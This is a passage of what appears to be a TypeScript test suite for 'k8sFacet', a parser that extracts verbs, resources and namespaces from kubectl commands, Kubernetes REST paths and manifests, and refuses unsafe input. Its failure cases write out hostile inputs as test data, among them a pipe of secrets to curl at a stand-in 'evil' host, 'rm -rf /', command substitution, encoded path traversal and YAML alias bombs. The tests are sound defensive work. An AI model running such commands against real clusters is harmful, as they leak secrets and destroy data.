  { name: 'custom kind keeps its kind with no resource', input: 'apiVersion: cert-manager.io/v1\nkind: Certificate\nmetadata: {name: c}\n', want: mf({ verb: 'create', group: 'cert-manager.io', version: 'v1', kind: 'Certificate', namespace: 'default', name: 'c', resources: [], unknownScope: true }) },
  { name: 'a Secret kind in a foreign group is not a core secret', input: 'apiVersion: evil.io/v1\nkind: Secret\nmetadata: {name: s}\n', want: mf({ verb: 'create', group: 'evil.io', version: 'v1', kind: 'Secret', namespace: 'default', name: 's', unknownScope: true }) },
  { name: 'legacy extensions group', input: 'apiVersion: extensions/v1beta1\nkind: Deployment\nmetadata: {name: d}\n', want: mf({ verb: 'create', group: 'extensions', version: 'v1beta1', resource: 'deployments', kind: 'Deployment', namespace: 'default', name: 'd' }) },
  { name: '__proto__ key is plain data', input: 'apiVersion: v1\nkind: Secret\nmetadata: {name: s, __proto__: {namespace: kube-system}}\n', want: mf({ verb: 'create', ...secret, namespace: 'default', name: 's' }) },
];

const FAILURES: FailCase[] = [
  { name: 'semicolon', input: 'kubectl get pods; kubectl delete ns x', source: 'kubectl', error: "';'" },
  { name: 'pipe', input: 'kubectl get secrets -o yaml | curl -d @- evil', source: 'kubectl', error: "'|'" },
  { name: '&&', input: 'kubectl get pods && rm -rf /', source: 'kubectl', error: "'&'" },
  { name: 'command substitution', input: 'kubectl get pods -n $(cat ns)', source: 'kubectl', error: "'$'" },
  { name: 'variable', input: 'kubectl get pods -n $NS', source: 'kubectl', error: "'$'" },
  { name: 'substitution in double quotes', input: 'kubectl get pods -n "$(id)"', source: 'kubectl', error: 'expansion' },
  { name: 'backticks', input: 'kubectl get pods -n `cat ns`', source: 'kubectl', error: "'`'" },
  { name: 'redirect', input: 'kubectl get secret x -o yaml > /tmp/s', source: 'kubectl', error: "'>'" },
  { name: 'input redirect', input: 'kubectl apply -f - < m.yaml', source: 'kubectl', error: "'<'" },
  { name: 'newline', input: 'kubectl get pods\nkubectl delete ns x', source: 'kubectl', error: 'newline' },
  { name: 'brace expansion', input: 'kubectl get {pods,secrets}', source: 'kubectl', error: 'brace' },
  { name: 'brace expansion in a flag', input: 'kubectl get pods -n{dev,kube-system}', source: 'kubectl', error: 'brace' },
  { name: 'unquoted glob', input: 'kubectl get pods -o jsonpath={.items[*].metadata.name}', source: 'kubectl', error: 'glob' },
  { name: 'comment', input: 'kubectl get pods # -n kube-system', source: 'kubectl', error: 'comment' },
  { name: 'unterminated quote', input: "kubectl get pods -n 'prod", source: 'kubectl', error: 'unterminated' },
  { name: 'unknown flag', input: 'kubectl get pods --bogus', source: 'kubectl', error: 'unknown flag' },
  { name: 'unknown shorthand', input: 'kubectl exec -A web -- ls', source: 'kubectl', error: 'unknown shorthand' },
  { name: 'local flag before the subcommand (as kubectl)', input: 'kubectl --all-namespaces get pods', source: 'kubectl', error: 'unknown flag' },
  { name: 'plugin', input: 'kubectl krew install x', source: 'kubectl', error: 'plugins' },
  { name: 'alpha', input: 'kubectl alpha debug x', source: 'kubectl', error: "'alpha'" },
  { name: 'no subcommand', input: 'kubectl', source: 'kubectl', error: 'missing' },
  { name: 'invalid namespace', input: 'kubectl get pods -n KUBE-SYSTEM', source: 'kubectl', error: 'invalid namespace' },
  { name: 'zero-width namespace', input: 'kubectl get pods -n kube\u200bsystem', source: 'kubectl', error: 'invalid namespace' },
  { name: '-n= is not a namespace', input: 'kubectl get pods -n=', source: 'kubectl', error: 'invalid namespace' },
  { name: 'missing -n value', input: 'kubectl get pods -n', source: 'kubectl', error: 'needs an argument' },
  { name: 'dot-dot name', input: 'kubectl get secret ..', source: 'kubectl', error: 'invalid resource name' },
  { name: 'mixed type/name and type', input: 'kubectl get pods pod/x', source: 'kubectl', error: 'mixed' },
  { name: 'two slashes', input: 'kubectl get pods/a/b', source: 'kubectl', error: "more than one '/'" },
  { name: 'exec without --', input: 'kubectl exec web ls', source: 'kubectl', error: "'exec'" },
  { name: 'file and resource together', input: 'kubectl delete -f x.yaml pods', source: 'kubectl', error: '-f' },
  { name: 'invalid dry-run', input: 'kubectl delete pod x --dry-run=maybe', source: 'kubectl', error: 'dry-run' },
  { name: 'invalid boolean', input: 'kubectl get pods --all-namespaces=maybe', source: 'kubectl', error: 'invalid boolean' },
  { name: 'raw with dot segment', input: 'kubectl get --raw /api/v1/namespaces/prod/../kube-system/secrets', source: 'kubectl', error: 'dot segment' },
  { name: 'NUL in argv', input: ['kubectl', 'get', 'pods\u0000x'], source: 'kubectl', error: 'NUL' },
  { name: 'argv not kubectl', input: ['rm', '-rf', '/'], source: 'kubectl', error: 'not kubectl' },
  { name: 'env assignment before kubectl', input: 'KUBECONFIG=/x kubectl get pods', source: 'manifest', error: 'not an object' },
  { name: 'dot segments', input: '/api/v1/namespaces/prod/../kube-system/secrets', source: 'rest', error: 'dot segment' },
  { name: 'single dot segment', input: '/api/v1/namespaces/prod/./secrets', source: 'rest', error: 'dot segment' },
  { name: 'encoded dot segments', input: '/api/v1/namespaces/prod/%2e%2E/kube-system/secrets', source: 'rest', error: 'dot segment' },
  { name: 'encoded slash', input: '/api/v1/namespaces/prod%2Fkube-system/secrets', source: 'rest', error: "encoded '/'" },
  { name: 'encoded backslash', input: '/api/v1/namespaces/prod%5c..%5ckube-system/secrets', source: 'rest', error: "encoded '/'" },
  { name: 'double encoding', input: '/api/v1/namespaces/%2570roduction/secrets', source: 'rest', error: 'twice' },
  { name: 'malformed escape', input: '/api/v1/namespaces/%zz/secrets', source: 'rest', error: 'malformed' },
  { name: 'empty segment', input: '/api/v1//namespaces/x/secrets', source: 'rest', error: 'empty segment' },
  { name: 'backslash in path', input: '/api/v1/namespaces/x\\..\\kube-system/secrets', source: 'rest', error: 'backslash' },
  { name: 'encoded control character', input: '/api/v1/namespaces/x/secrets/a%0ab', source: 'rest', error: 'control' },
  { name: 'invalid namespace in path', input: '/api/v1/namespaces/Kube-System/secrets', source: 'rest', error: 'invalid namespace' },
  { name: 'path parameter', input: '/api/v1/namespaces/prod;x=1/../kube-system/secrets', source: 'rest', error: "';'" },
  { name: 'zero-width character in a segment', input: '/api/v1/namespaces/kube-system/secrets/a%E2%80%8Bb', source: 'rest', error: 'invisible' },
  { name: 'semicolon in query', input: '/api/v1/namespaces/x/secrets?a=1;watch=true', source: 'rest', error: "';'" },
  { name: 'watch with no resource', input: '/api/v1/watch', source: 'rest', error: 'names no resource' },
  { name: 'unsupported scheme', input: 'ftp://host/api/v1/pods', source: 'rest', error: 'scheme' },
  { name: 'unsupported method', input: '/api/v1/pods', options: { verb: 'OPTIONS' }, source: 'rest', error: 'unsupported' },
  { name: 'method contradicts options.verb', input: 'GET /api/v1/pods', options: { verb: 'DELETE' }, source: 'rest', error: 'contradicts' },
  { name: 'document without kind', input: 'apiVersion: v1\nmetadata: {name: x}\n', source: 'manifest', error: 'no kind' },
  { name: 'second document without kind', input: `${CM}---\napiVersion: v1\nmetadata: {name: x}\n`, source: 'manifest', error: 'document 1 has no kind' },
  { name: 'document without apiVersion', input: 'kind: Secret\n', source: 'manifest', error: 'no apiVersion' },
  { name: 'duplicate keys', input: 'apiVersion: v1\nkind: ConfigMap\nkind: Secret\n', source: 'manifest', error: "duplicate key 'kind'" },
  { name: 'duplicate namespace in metadata', input: 'apiVersion: v1\nkind: Secret\nmetadata:\n  namespace: default\n  name: s\n  namespace: kube-system\n', source: 'manifest', error: "duplicate key 'namespace'" },
  { name: 'duplicate keys in JSON-style flow YAML', input: '[{"apiVersion": "v1", "kind": "ConfigMap", "kind": "Secret"}]', source: 'manifest', error: 'duplicate key' },
  { name: 'merge key in metadata', input: 'apiVersion: v1\nkind: Secret\nmetadata:\n  name: s\n  <<: {namespace: kube-system}\n', source: 'manifest', error: 'merge key' },
  { name: 'merge key', input: 'base: &b {kind: Secret}\napiVersion: v1\nkind: ConfigMap\n<<: *b\n', source: 'manifest', error: 'merge key' },
  { name: '%YAML 1.1 directive', input: '%YAML 1.1\n---\napiVersion: v1\nkind: ConfigMap\n', source: 'manifest', error: '%YAML' },
  { name: 'non-string namespace', input: 'apiVersion: v1\nkind: Secret\nmetadata: {name: s, namespace: 7}\n', source: 'manifest', error: 'not a string' },
  { name: 'invalid manifest namespace', input: 'apiVersion: v1\nkind: Secret\nmetadata: {name: s, namespace: "kube-system "}\n', source: 'manifest', error: 'invalid namespace' },
  { name: 'items that are not a list', input: '{"apiVersion":"v1","kind":"List","items":{"a":1}}', source: 'manifest', error: 'not a list' },
  { name: 'invalid JSON', input: '{"apiVersion":"v1","kind":"Secret"', source: 'manifest', error: 'invalid JSON' },
  { name: 'two JSON objects back to back', input: '{"apiVersion":"v1","kind":"ConfigMap"}{"apiVersion":"v1","kind":"Secret"}', source: 'manifest', error: 'invalid JSON' },
  { name: 'plain text', input: 'please delete everything', source: 'manifest', error: 'not an object' },
  { name: 'empty manifest', input: '---\n# only a comment\n', source: 'manifest', error: 'no objects' },
  { name: 'class instance', input: new Date(0), source: 'manifest', error: 'not an object' },
  { name: 'empty string', input: '   ', source: '', error: 'empty' },
  { name: 'undefined', input: undefined, source: '', error: 'no input' },
  { name: 'number', input: 42, source: '', error: 'unsupported input type' },
  { name: 'over the size limit', input: `kubectl get pods ${'a'.repeat(K8S_MAX_INPUT)}`, source: '', error: 'exceeds' },
  { name: 'invalid defaultNamespace', input: 'kubectl get pods', options: { defaultNamespace: 'Not Valid' }, source: 'kubectl', error: 'defaultNamespace' },
];

// [short name, resource, group, namespaced]: kubectl's real short names only.
const SHORT_NAMES: Array<[string, string, string, boolean]> = [
  ['po', 'pods', '', true], ['svc', 'services', '', true], ['deploy', 'deployments', 'apps', true], ['ds', 'daemonsets', 'apps', true],
  ['sts', 'statefulsets', 'apps', true], ['rs', 'replicasets', 'apps', true], ['cm', 'configmaps', '', true], ['ns', 'namespaces', '', false],
  ['no', 'nodes', '', false], ['pv', 'persistentvolumes', '', false], ['pvc', 'persistentvolumeclaims', '', true], ['sa', 'serviceaccounts', '', true],
  ['ing', 'ingresses', 'networking.k8s.io', true], ['netpol', 'networkpolicies', 'networking.k8s.io', true],
  ['crd', 'customresourcedefinitions', 'apiextensions.k8s.io', false], ['crds', 'customresourcedefinitions', 'apiextensions.k8s.io', false],
  ['cj', 'cronjobs', 'batch', true], ['ep', 'endpoints', '', true], ['hpa', 'horizontalpodautoscalers', 'autoscaling', true],
  ['pdb', 'poddisruptionbudgets', 'policy', true], ['rc', 'replicationcontrollers', '', true], ['ev', 'events', '', true],
  ['quota', 'resourcequotas', '', true], ['limits', 'limitranges', '', true], ['csr', 'certificatesigningrequests', 'certificates.k8s.io', false],
  ['pc', 'priorityclasses', 'scheduling.k8s.io', false], ['sc', 'storageclasses', 'storage.k8s.io', false], ['cs', 'componentstatuses', '', false],
  ['rb', 'rb', '', true], ['crb', 'crb', '', true],
];

function check(c: OkCase): void {
  const f = k8sFacet(c.input, c.options);
  const want = c.want;
  const core = Object.fromEntries(CORE.map((k) => [k, k in want ? want[k] : CORE_EMPTY[k]]));
  expect(Object.fromEntries(CORE.map((k) => [k, f[k]]))).toEqual(core);
  for (const [k, v] of Object.entries(want)) expect(f[k as keyof K8sFacts], k).toEqual(v);
  // invariant: the top level always describes the first object.
  const first = f.objects[0];
  expect(first).toBeDefined();
  for (const k of ['verb', 'group', 'version', 'resource', 'subresource', 'namespace', 'name', 'kind'] as const) expect(f[k]).toBe(first?.[k]);
}

describe('k8sFacet: kubectl command lines', () => {
  it.each(KUBECTL)('$name', check);
});

describe('k8sFacet: kubectl short names', () => {
  it.each(SHORT_NAMES)('%s resolves to %s', (short, resource, group, namespaced) => {
    const f = k8sFacet(['kubectl', 'get', short, '-n', 'prod']);
    expect([f.parsed, f.verb, f.resource, f.group, f.namespace]).toEqual([true, 'list', resource, group, namespaced ? 'prod' : '']);
    // Invented short names stay as written, with their scope unknown.
    expect(f.unknownScope).toBe(resource === short);
  });
});

describe('k8sFacet: REST paths', () => {
  it.each(REST)('$name', check);
});

describe('k8sFacet: manifests', () => {
  it.each(MANIFEST)('$name', check);
});

describe('k8sFacet: inputs it refuses (parsed false, nothing guessed)', () => {
  it.each(FAILURES)('$name', (c) => {
    const f = k8sFacet(c.input, c.options);
    expect(f.error).toContain(c.error);
    expect(f).toEqual({ ...EMPTY_K8S_FACTS, source: c.source, error: f.error });
  });
});

describe('k8sFacet: contract', () => {
  it('EMPTY_K8S_FACTS is not parsed, has no error, and is frozen', () => {
    expect(EMPTY_K8S_FACTS.parsed).toBe(false);
    expect(EMPTY_K8S_FACTS.error).toBe('');
    expect(EMPTY_K8S_FACTS.source).toBe('');
    expect(Object.isFrozen(EMPTY_K8S_FACTS)).toBe(true);
    expect(Object.isFrozen(EMPTY_K8S_FACTS.objects)).toBe(true);
  });

  it('returns a fresh result that callers may not share by accident', () => {
    const a = k8sFacet('kubectl get pods');
    const b = k8sFacet('kubectl get pods');
    expect(a).toEqual(b);
    expect(a.objects).not.toBe(b.objects);
  });

  it('accepts input exactly at the size limit and refuses one character more', () => {
    const pad = ' '.repeat(K8S_MAX_INPUT - 'kubectl get pods'.length);
    expect(k8sFacet(`kubectl get pods${pad}`).parsed).toBe(true);
    expect(k8sFacet(`kubectl get pods${pad} `).parsed).toBe(false);
  });

  it('never reads prototype properties of a parsed manifest', () => {
    const proto = { apiVersion: 'v1', kind: 'Secret' };
    const o = Object.create(proto) as object;
    expect(k8sFacet(o).parsed).toBe(false);
    expect(k8sFacet(o).error).toContain('not an object');
  });

  it('turns a throwing getter into parsed false', () => {
    const o = { apiVersion: 'v1', get kind(): string { throw new Error('boom'); } };
    const f = k8sFacet(o);
    expect(f.parsed).toBe(false);
    expect(f.error).toContain('boom');
  });

  it('never expands YAML aliases in fields it does not read', () => {
    const lines = ['a0: &a0 [x, x, x, x, x, x, x, x, x, x]'];
    for (let i = 1; i < 12; i++) lines.push(`a${i}: &a${i} [${Array(10).fill(`*a${i - 1}`).join(', ')}]`);
    const f = k8sFacet(`apiVersion: v1\nkind: ConfigMap\nmetadata: {name: c}\nspec:\n  ${lines.join('\n  ')}\n`);
    expect(f.parsed).toBe(true);
    expect(f.resource).toBe('configmaps');
  });

  // Was refused outright (a false deny, issue 10): kubectl resolves anchors, so the facet does too.
  it('resolves YAML aliases in the fields it reads', () => {
    const f = k8sFacet('x: &k Secret\napiVersion: v1\nkind: *k\n');
    expect(f.parsed).toBe(true);
    expect(f.kind).toBe('Secret');
  });

  it('resolves an aliased metadata block and namespace', () => {
    const f = k8sFacet('meta: &m {name: db, namespace: &ns prod}\napiVersion: v1\nkind: Secret\nmetadata: *m\nother: {namespace: *ns}\n---\nns: &ns2 prod\napiVersion: v1\nkind: ConfigMap\nmetadata: {name: c, namespace: *ns2}\n');
    expect(f.parsed).toBe(true);
    expect(f.objects.map((o) => `${o.kind}/${o.namespace}/${o.name}`)).toEqual(['Secret/prod/db', 'ConfigMap/prod/c']);
  });

  it('refuses an alias whose anchor is not defined (anchors do not cross documents)', () => {
    expect(k8sFacet('apiVersion: v1\nkind: *missing\n').parsed).toBe(false);
    expect(k8sFacet('k: &k Secret\napiVersion: v1\nkind: *k\n---\napiVersion: v1\nkind: *k\n').parsed).toBe(false);
  });

  it('bounds alias resolution in items (an alias bomb is refused, not expanded)', () => {
    const lines = ['o: &o {apiVersion: v1, kind: ConfigMap, metadata: {name: c}}', 'l0: &l0 [*o, *o, *o, *o, *o, *o, *o, *o, *o, *o]'];
    for (let i = 1; i < 6; i++) lines.push(`l${i}: &l${i} [{items: *l${i - 1}}, {items: *l${i - 1}}, {items: *l${i - 1}}, {items: *l${i - 1}}, {items: *l${i - 1}}, {items: *l${i - 1}}, {items: *l${i - 1}}, {items: *l${i - 1}}, {items: *l${i - 1}}, {items: *l${i - 1}}]`);
    const f = k8sFacet(`${lines.join('\n')}\napiVersion: v1\nkind: List\nitems: *l5\n`);
    expect(f.parsed).toBe(false);
    expect(f.error).toMatch(/aliases|objects/);
  });

  it('checks duplicate keys of a large map in linear time', () => {
    const data = Array.from({ length: 30_000 }, (_, i) => `  k${i}: v`).join('\n');
    // A quadratic check of 30,000 keys would not finish within the test's timeout.
    const f = k8sFacet(`apiVersion: v1\nkind: ConfigMap\nmetadata: {name: c}\ndata:\n${data}\n`);
    expect(f.parsed).toBe(true);
  });

  it('refuses deeply nested flow collections before parsing them', () => {
    const f = k8sFacet(`${'['.repeat(400_000)}${']'.repeat(400_000)}`);
    expect(f.parsed).toBe(false);
    expect(f.error).toContain('nested deeper');
  });

  it('bounds the number of manifest objects', () => {
    const items = Array.from({ length: 10_001 }, (_, i) => ({ apiVersion: 'v1', kind: 'ConfigMap', metadata: { name: `c${i}` } }));
    const f = k8sFacet({ apiVersion: 'v1', kind: 'List', items });
    expect(f.parsed).toBe(false);
    expect(f.error).toContain('more than 10000 objects');
  });

  it('bounds list nesting', () => {
    let v: unknown = { apiVersion: 'v1', kind: 'Secret' };
    for (let i = 0; i < 20; i++) v = { apiVersion: 'v1', kind: 'List', items: [v] };
    expect(k8sFacet(v).error).toContain('nested deeper');
  });
});

const STRING_FIELDS = ['error', 'source', 'verb', 'group', 'version', 'resource', 'subresource', 'namespace', 'name', 'kind', 'subcommand', 'dryRun', 'path', 'context', 'cluster', 'user', 'kubeconfig', 'server', 'impersonate'] as const;
const ARRAY_FIELDS = ['resources', 'namespaces', 'kinds', 'verbs', 'command'] as const;
const BOOL_FIELDS = ['parsed', 'allNamespaces', 'fromFile', 'unknownScope'] as const;
const DNS_LABEL = /^[a-z0-9](?:[-a-z0-9]{0,61}[a-z0-9])?$/;

function wellFormed(f: K8sFacts): void {
  expect(Object.keys(f).sort()).toEqual(Object.keys(EMPTY_K8S_FACTS).sort());
  for (const k of STRING_FIELDS) expect(typeof f[k]).toBe('string');
  for (const k of ARRAY_FIELDS) expect(f[k].every((x) => typeof x === 'string')).toBe(true);
  for (const k of BOOL_FIELDS) expect(typeof f[k]).toBe('boolean');
  expect(Array.isArray(f.objects)).toBe(true);
  if (f.parsed) {
    expect(f.error).toBe('');
    expect(f.objects.length).toBeGreaterThan(0);
    expect(f.verb).not.toBe('');
    for (const o of f.objects) {
      expect(Object.keys(o).sort()).toEqual(['group', 'kind', 'name', 'namespace', 'resource', 'subresource', 'verb', 'version']);
      expect(o.namespace === '' || DNS_LABEL.test(o.namespace)).toBe(true);
      expect(o.resource).toBe(o.resource.toLowerCase());
    }
  } else {
    expect(f).toEqual({ ...EMPTY_K8S_FACTS, source: f.source, error: f.error });
  }
}

const WORDS = [
  'kubectl', 'get', 'pods', 'secrets', 'po,secret', 'secret/x', '-n', 'prod', '-nprod', '--namespace', '--namespace=x', '-A', '--all-namespaces',
  '-o', 'yaml', '-w', 'exec', '-it', 'web', '--', 'sh', 'delete', 'ns', 'kube-system', 'apply', '-f', 'x.yaml', 'logs', '-c', 'cp', 'a/b:/c',
  '--raw', '/api/v1/namespaces/x/pods', "'q w'", '"d q"', '\\-n', ';', '|', '$(x)', '`x`', '{a,b}', '*', '#', '--as=u', 'create', 'secret',
  'generic', 'run', '--rm', 'drain', 'node1', 'label', 'a=b', 'rollout', 'restart', 'deploy/web', 'top', 'pod', 'config', 'view', '-h', '=',
];
const SEGMENTS = ['api', 'apis', 'v1', 'apps', 'namespaces', 'x', 'kube-system', 'pods', 'secrets', 'watch', 'proxy', 'exec', 'log', 'status', '..', '.', '%2e', '%2F', '%70rod', '%25', 'y:80', '', 'SECRETS'];

describe('k8sFacet: properties', () => {
  it('never throws on arbitrary strings and always returns every field with the right type', () => {
    fc.assert(fc.property(fc.string({ unit: 'binary', maxLength: 300 }), (s) => wellFormed(k8sFacet(s))), { numRuns: 1000 });
  });

  it('never throws on arbitrary values', () => {
    fc.assert(fc.property(fc.anything({ withObjectString: true, withNullPrototype: true, withBoxedValues: true }), (v) => wellFormed(k8sFacet(v))), { numRuns: 500 });
  });

  it('never throws on kubectl-like lines and argv', () => {
    const words = fc.array(fc.constantFrom(...WORDS), { maxLength: 12 });
    fc.assert(fc.property(words, (ws) => {
      wellFormed(k8sFacet(ws.join(' ')));
      wellFormed(k8sFacet(ws));
    }), { numRuns: 1500 });
  });

  it('never throws on REST-like paths, and never reports a path with a dot segment', () => {
    const segs = fc.array(fc.constantFrom(...SEGMENTS), { minLength: 1, maxLength: 9 });
    const query = fc.constantFrom('', '?watch=true', '?watch=0', '?watch', '?a=%zz', '?dryRun=All');
    fc.assert(fc.property(segs, query, fc.constantFrom('GET', 'POST', 'DELETE', 'PATCH'), (ss, q, verb) => {
      const f = k8sFacet(`/${ss.join('/')}${q}`, { verb });
      wellFormed(f);
      if (ss.some((s) => s === '..' || s === '.' || s === '%2e')) expect(f.parsed).toBe(false);
    }), { numRuns: 1500 });
  });

  it('the last namespace flag wins, wherever the flags stand', () => {
    const nsFlag = fc.tuple(fc.constantFrom('-n', '--namespace', '-n=', '--namespace=', '-n+'), fc.constantFrom('a', 'b-1', 'kube-system', 'prod'));
    fc.assert(fc.property(fc.array(nsFlag, { minLength: 1, maxLength: 4 }), fc.array(fc.nat(), { minLength: 4, maxLength: 4 }), (flags, positions) => {
      const words = ['get', 'pods', 'web'];
      let from = 0;
      flags.forEach(([flag, ns], i) => {
        const parts = flag === '-n+' ? [`-n${ns}`] : flag.endsWith('=') ? [`${flag}${ns}`] : [flag, ns];
        // Each flag goes somewhere after the previous one, so the last generated is the last written.
        const at = from + ((positions[i] ?? 0) % (words.length - from + 1));
        words.splice(at, 0, ...parts);
        from = at + parts.length;
      });
      const f = k8sFacet(['kubectl', ...words]);
      const lastNs = flags[flags.length - 1]?.[1];
      expect(f.parsed).toBe(true);
      expect(f.namespace).toBe(lastNs);
    }), { numRuns: 500 });
  });

  it('percent-encoding any character of a path segment does not change the facts', () => {
    const enc = (s: string, mask: number[]): string => [...s].map((ch, i) => ((mask[i % mask.length] ?? 0) % 2 === 1 ? `%${ch.charCodeAt(0).toString(16).padStart(2, '0')}` : ch)).join('');
    fc.assert(fc.property(fc.array(fc.nat(), { minLength: 1, maxLength: 8 }), fc.constantFrom('kube-system', 'production', 'a1'), fc.constantFrom('secrets', 'pods', 'configmaps'), (mask, ns, res) => {
      const plain = k8sFacet(`/api/v1/namespaces/${ns}/${res}/obj-1`);
      const encoded = k8sFacet(`/api/v1/namespaces/${enc(ns, mask)}/${enc(res, mask)}/${enc('obj-1', mask)}`);
      expect(encoded).toEqual(plain);
    }), { numRuns: 500 });
  });
});
